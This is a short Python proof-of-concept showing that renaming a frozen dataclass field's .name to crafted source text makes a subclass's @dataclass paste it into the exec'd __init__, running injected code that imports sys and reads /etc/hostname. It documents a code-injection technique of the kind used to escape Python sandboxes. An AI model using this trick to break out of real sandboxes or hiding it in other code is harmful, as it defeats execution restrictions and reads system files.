"""A dataclass Field's .name is a plain writable slot: renaming a frozen base's field to source text makes the subclass's @dataclass paste it into the __init__ source it execs, running arbitrary code (import sys, sys.modules, open)."""
from dataclasses import dataclass, fields


@dataclass(frozen=True)
class Base:
    a: int


payload = ' import sys;print("exec reached:",len(sys.modules),sys.modules["os"],open("/etc/hostname").read().strip())'
fields(Base)[0].name = "a=0,**k):\n" + payload + "\n z=(" + "'" * 3 + ")\ndef h(c):#"


@dataclass(frozen=True, repr=False, eq=False)
class Child(Base):
    pass
